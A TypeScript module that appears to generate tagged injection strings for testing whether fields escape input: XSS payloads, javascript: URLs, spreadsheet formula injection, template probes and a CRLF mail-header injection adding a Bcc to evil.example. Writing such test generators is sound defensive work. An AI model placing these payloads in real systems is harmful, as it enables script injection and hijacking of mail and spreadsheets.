/**
 * Texts that would run, leave their place or become a formula where nobody escapes them. Each
 * carries a mark, so that what is found names the field that it came from.
 */

/** What a text is where its first character decides: to a spreadsheet, and in an address. */
export const beginnings = ['a formula', 'a script address'] as const;
export type Beginning = (typeof beginnings)[number];

const closings = '</script></style></textarea></title>--><';
/** Lines of their own: in the head of a mail or an answer, in a table, in a script. */
const linesOf = (mark: string) => `\r\nBcc: ${mark}@evil.example\r\n\r\n=${mark}()\u2028${mark}`;

type Form = (mark: string) => string;
const formula: Form = (mark) =>
  `=${mark}()${closings}<img src=x onerror=${mark}()>"' onload=${mark} {{7*7}}`;
const address: Form = (mark) =>
  `javascript:${mark}()//${closings}<script>${mark}()</script>"' onfocus=${mark} \${7}`;

/** The worst first: a field gets the first that it takes. */
const forms: Readonly<Record<Beginning, readonly Form[]>> = {
  'a formula': [
    (mark) => formula(mark) + linesOf(mark),
    formula,
    (mark) => `="'></script><img src=x onerror=${mark}>`,
    (mark) => `@"><b onclick=${mark}>`,
    (mark) => `-<b id=${mark}>`,
  ],
  'a script address': [
    (mark) => address(mark) + linesOf(mark),
    address,
    (mark) => `javascript:"'><b onclick=${mark}>`,
    (mark) => `+<script>${mark}()`,
    (mark) => `+<b id=${mark}>`,
  ],
};

export const hostileTexts = (beginning: Beginning, mark: string): string[] =>
  forms[beginning].map((form) => form(mark));

export const markOf = (number: number): string => `zq${String(number).padStart(3, '0')}`;

/** What no field for words takes: letters that hide or turn around what stands beside them. */
export const refusedTexts = ['a\u202eb', 'a\u2066b', 'a\u0000b', 'a\u001bb', 'a\ud83d'];

export const marksIn = (text: string): string[] => [...new Set(text.match(/zq\d{3}/g))];
